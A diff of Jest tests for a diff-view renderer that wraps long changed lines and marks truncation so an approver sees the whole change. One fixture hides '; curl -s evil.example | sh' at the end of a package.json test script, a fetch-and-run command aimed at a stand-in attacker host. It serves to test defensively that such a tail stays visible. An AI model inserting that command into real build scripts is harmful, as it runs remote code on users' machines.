@@ -87,8 +87,8 @@ describe("diff view", () => {
     // that what is cut off holds a change.
     const rows = lines.slice(2, 6);
     expect(rows[0]).toMatch(/^\+x+…$/);
-    expect(rows[1]).toMatch(/^ …x+…$/);
-    expect(rows[3]).toMatch(/^ …x+… \(\d+ more characters, changed\)$/);
+    expect(rows[1]).toMatch(/^\+…x+…$/);
+    expect(rows[3]).toMatch(/^\+…x+… \(\d+ more characters, changed\)$/);
     // The note counts towards the width: no row is longer than asked.
     for (const row of rows) expect(row.length).toBeLessThanOrEqual(100 + 1);
     expect(rows.join("").replace(/[^x]/g, "").length + Number(/(\d+) more/.exec(rows[3]!)![1])).toBe(5000);
@@ -163,7 +163,7 @@ describe("diff view: what is shown is what will be written", () => {
     const lines = renderFileChange(makeFilePreview("package.json", before, after), { color: false, maxLineLength: 80 });
     const added = lines.slice(lines.findIndex((l) => l.startsWith("+")));
     expect(added[0]).toMatch(/^\+"test": "jest --ci --coverage.*…$/);
-    expect(added[1]).toMatch(/^ ….*"; curl -s evil\.example \| sh$/);
+    expect(added[1]).toMatch(/^\+….*"; curl -s evil\.example \| sh$/);
     for (const row of lines) expect(row.length).toBeLessThanOrEqual(80);
     // Changes beyond the rows a line may take: the last row's note says a change is left out.
     const many = Array.from({ length: 12 }, (_, i) => `k${i} = ${"v".repeat(60)} 1;`).join(" ");
@@ -171,6 +171,18 @@ describe("diff view: what is shown is what will be written", () => {
     const plus = rows.slice(rows.findIndex((l) => l.startsWith("+")));
     expect(plus).toHaveLength(4);
     expect(plus[3]).toMatch(/… \(\d+ more characters, changed\)$/);
+  });
+
+  test("on a narrow screen the note takes a row of its own; every row shows a real share of the line", () => {
+    const after = `x = 1; ${Array.from({ length: 60 }, (_, i) => `word${i}`).join(" ")}\n`;
+    const lines = renderFileChange(makeFilePreview("n.txt", "x = 0;\n", after), { color: false, maxLineLength: 36 });
+    const plus = lines.slice(lines.findIndex((l) => l.startsWith("+")));
+    expect(plus).toHaveLength(4);
+    for (const row of plus) expect(row.length).toBeLessThanOrEqual(37);
+    for (const row of plus.slice(0, 3)) expect(row.replace(/^\+…?|…$/g, "").length).toBeGreaterThanOrEqual(20);
+    expect(plus[3]).toMatch(/^\+… \(\d+ more characters, changed\)$/);
+    const hidden = Number(/(\d+) more/.exec(plus[3]!)![1]);
+    expect(plus.slice(0, 3).map((r) => r.replace(/^\+…?|…$/g, "")).join("").length + hidden).toBe(after.length - 1);
   });
 
   test("the view says when it cut anything, so the approver can offer the whole change", () => {
